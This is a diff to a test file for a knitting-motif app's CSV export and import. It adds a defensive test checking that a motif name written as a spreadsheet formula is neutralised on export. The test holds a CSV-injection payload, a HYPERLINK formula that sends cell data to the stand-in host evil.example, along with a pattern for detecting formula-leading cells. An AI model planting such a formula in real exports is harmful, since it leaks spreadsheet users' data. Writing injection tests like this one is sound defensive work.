@@ -2,6 +2,7 @@ import { PNG } from 'pngjs'
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
 import { signedIn, type ApiClient } from '../support/api'
 import { closeTestDb, fixturePassword, makeStudio } from '../support/db'
+import { readCsv } from '../support/rfc4180'
 import { Motif } from '../../server/db/models'
 import { motifRecord } from '../../server/db/motifs'
 import type { MotifDetail, MotifListItem, MotifPage } from '../../shared/types/motif'
@@ -211,12 +212,26 @@ describe('export and import', () => {
     expect(file.status).toBe(200)
     expect(file.headers.get('content-type')).toContain('text/csv')
     expect(file.body).toBe(
-      '# floatwise motif "Round \\"trip\\"", first line = first row knitted, 0 = main colour, 1 = contrast colour\n'
+      '# floatwise motif,"Round ""trip""",first line = first row knitted; 0 = main colour; 1 = contrast colour\n'
       + '1,0,0,1,0\n0,1,0,1,0\n0,0,1,1,1\n1,1,1,1,1\n',
     )
     const back = await designer.post<MotifDetail>('/api/motifs/import', { studioId: s.studio.id, format: 'csv', content: file.body, name: 'From CSV' })
     expect(back.status).toBe(201)
     expect(back.body).toMatchObject({ name: 'From CSV', rows })
+  })
+
+  it('CSV: a name written as a formula is one text cell for a spreadsheet, and imports back as it was', async () => {
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Open"), +1, -1, @SUM(A1:A9)'
+    const { body: hostile } = await create(designer, { name, rows, published: true })
+    const file = await knitter.get(`/api/motifs/${hostile.id}/export?format=csv`)
+    expect(file.status).toBe(200)
+    const records = readCsv(file.body)
+    expect(records[0]).toEqual(['# floatwise motif', `'${name}`, 'first line = first row knitted; 0 = main colour; 1 = contrast colour'])
+    // OWASP, "CSV Injection": a cell starting with = + - @ tab or CR is run as a formula.
+    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    const back = await designer.post<MotifDetail>('/api/motifs/import', { studioId: s.studio.id, format: 'csv', content: file.body })
+    expect(back.status).toBe(201)
+    expect(back.body).toMatchObject({ name, rows })
   })
 
   it('PNG: 8 pixels per stitch, the last row knitted on top, main light and contrast dark', async () => {
